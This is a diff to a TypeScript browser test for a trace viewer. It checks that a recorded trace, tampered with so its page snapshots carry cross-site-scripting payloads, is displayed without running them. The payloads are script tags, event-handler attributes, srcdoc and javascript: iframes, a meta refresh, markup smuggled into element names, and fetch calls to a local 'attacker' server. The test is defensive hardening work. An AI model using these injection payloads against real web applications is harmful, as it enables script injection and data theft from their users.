@@ -1,11 +1,13 @@
 import { expect } from 'chai';
+import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
 import { once } from 'node:events';
 import { mkdtemp, readFile, rm } from 'node:fs/promises';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { createClient } from '../../src/client/index.js';
+import { createClient, type Client } from '../../src/client/index.js';
+import { BOOTSTRAP_KEY } from '../http/server.js';
 import { freePort } from '../stack/free-port.js';
 import { launchChromium } from './chromium.js';
 import { testSite } from './site.js';
@@ -20,17 +22,18 @@ describe('the trace of a failed test in Chromium', () => {
 
   async function fill({ url, key }: { url: string; key: string }): Promise<void> {
     const client = createClient({ url, apiKey: key });
+    result = await withTrace(client, await recordedTrace());
+  }
+
+  /** The id of a failed result that has the trace. */
+  async function withTrace(client: Client, bytes: Uint8Array): Promise<string> {
     const { body } = await site.api.post('/v1/projects', { name: 'Shop' });
     const results = [{ name: 'buys a shoe', status: 'failed' as const, error_message: 'no shoe' }];
     const run = await client.submitRun({ project_id: body.data.id, results });
-    result = run.resultId(0);
-    const trace = {
-      resultId: result,
-      label: 'trace.zip',
-      kind: 'Other',
-      contentType: 'application/zip',
-    } as const;
-    await client.uploadArtifact({ ...trace, bytes: await recordedTrace() });
+    const resultId = run.resultId(0);
+    const trace = { label: 'trace.zip', kind: 'Other', contentType: 'application/zip' } as const;
+    await client.uploadArtifact({ resultId, ...trace, bytes });
+    return resultId;
   }
 
   it('opens in the viewer at the origin apart, which shows its actions and snapshots', async () => {
@@ -50,6 +53,47 @@ describe('the trace of a failed test in Chromium', () => {
     expect(await viewer.evaluate(() => document.cookie)).to.equal('');
     expect(await viewer.context().cookies(viewer.url())).to.deep.equal([]);
     expect(refused).to.deep.equal([]);
+  });
+
+  it('shows a trace that was made to attack its reader, and runs nothing of it', async () => {
+    const asked: string[] = [];
+    const attacker = createServer((request, answer) => {
+      asked.push(request.url!);
+      answer.setHeader('Access-Control-Allow-Origin', '*').end('got it');
+    }).listen(0, '127.0.0.1');
+    await once(attacker, 'listening');
+    const elsewhere = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
+    const result = await withTrace(
+      createClient({ url: site.url, apiKey: BOOTSTRAP_KEY }),
+      attacking(await recordedTrace(), elsewhere),
+    );
+    const { page } = await site.open();
+    // A window of its own: the others fail where a policy refuses something.
+    const context = await page
+      .context()
+      .browser()!
+      .newContext({ storageState: await page.context().storageState() });
+    const viewer = await context.newPage();
+    const dialogs: string[] = [];
+    viewer.on('dialog', (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    const artifact = /artifacts\/(artifact_\w+)/.exec(
+      await (await context.request.get(`${site.url}${site.team}/results/${result}`)).text(),
+    )![1]!;
+    await viewer.goto(`${site.url}${site.team}/artifacts/${artifact}?viewer=1`);
+    await viewer.getByText('buy-button').first().waitFor();
+    const snapshot = viewer.frameLocator('iframe.snapshot-visible');
+    await snapshot.getByText('A shoe for Olga').waitFor();
+    await snapshot.getByText('the attack is shown').waitFor();
+    expect(await viewer.title()).to.not.contain('attacked');
+    expect(await snapshot.locator('html').evaluate(() => document.title)).to.not.contain('attacked');
+    expect(viewer.url()).to.contain(`http://files.localhost:${port}/trace-viewer/`);
+    expect(dialogs).to.deep.equal([]);
+    expect(asked).to.deep.equal([]);
+    await context.close();
+    attacker.close();
   });
 
   it('loads no trace of another server into the viewer', async () => {
@@ -76,6 +120,41 @@ describe('the trace of a failed test in Chromium', () => {
     elsewhere.close();
   });
 });
+
+/** The trace, with everything in its snapshots that could run or load something. */
+function attacking(trace: Uint8Array, elsewhere: string): Uint8Array {
+  const run = `document.title = 'attacked'; parent.document.title = 'attacked'; alert(1); fetch('${elsewhere}/fetched')`;
+  const attack = [
+    ['SCRIPT', {}, run],
+    ['SCRIPT', { src: `${elsewhere}/script.js` }],
+    ['IMG', { src: 'nothing.png', onerror: run }],
+    ['IMG', { src: `${elsewhere}/picture.png` }],
+    ['svg', { onload: run }],
+    ['IFRAME', { srcdoc: `<script>${run}</script>` }],
+    ['IFRAME', { src: `javascript:${run}` }],
+    ['OBJECT', { data: `${elsewhere}/object` }],
+    ['DETAILS', { open: '', ontoggle: run }],
+    ['META', { 'http-equiv': 'refresh', content: `0;url=${elsewhere}/refreshed` }],
+    ['P', {}, 'the attack is shown'],
+    // Markup in names: a reader may take all that follows for the text of a script.
+    ['X-ELEMENT><script>' + run + '</script>', {}],
+    ['P', { 'a><script>': `"><script>${run}</script>` }, `</p><script>${run}</script>`],
+  ];
+  const files = unzipSync(trace);
+  const changed = Object.entries(files).map(([name, bytes]) => {
+    if (!name.endsWith('.trace')) return [name, bytes] as const;
+    const lines = strFromU8(bytes).trimEnd().split('\n');
+    const attacked = lines.map((line) => {
+      const event = JSON.parse(line) as { type: string; snapshot?: { html: unknown[] } };
+      if (event.type !== 'frame-snapshot') return line;
+      const body = event.snapshot!.html.find((each) => Array.isArray(each) && each[0] === 'BODY');
+      if (Array.isArray(body)) body.push(...attack);
+      return JSON.stringify(event);
+    });
+    return [name, strToU8(attacked.join('\n'))] as const;
+  });
+  return zipSync(Object.fromEntries(changed));
+}
 
 /** Of a page with a script in its texts: a snapshot shows it as it was, and runs nothing. */
 async function recordedTrace(): Promise<Uint8Array> {
